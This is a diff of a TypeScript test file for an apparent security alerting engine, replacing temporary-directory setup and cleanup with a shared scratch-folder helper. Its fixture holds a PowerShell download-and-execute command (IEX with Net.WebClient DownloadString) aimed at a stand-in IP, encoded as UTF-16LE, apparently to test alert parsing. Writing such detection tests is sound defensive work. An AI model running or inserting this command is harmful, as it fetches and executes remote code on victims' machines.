@@ -1,13 +1,13 @@
 import { createHash } from "node:crypto";
-import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { readAlert } from "@firebreak/engine/alerts/read";
 import { openLedger } from "@firebreak/ledger";
-import { afterAll, beforeAll, expect, it } from "vitest";
+import { beforeAll, expect, it } from "vitest";
+import { scratchFolder } from "../../../../test/support/scratch.ts";
 import { fileFactsOf } from "./file-facts.ts";
 
-const dir = mkdtempSync(join(tmpdir(), "firebreak-facts-"));
+const dir = scratchFolder("facts");
 const command = Buffer.from(
   "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')",
   "utf16le",
@@ -28,7 +28,6 @@ beforeAll(() => {
     data: { items },
   });
 });
-afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
 const facts = (fields: object) =>
   fileFactsOf(dir, readAlert(JSON.stringify({ rule: "r", ...fields }), "alert.json", {}));
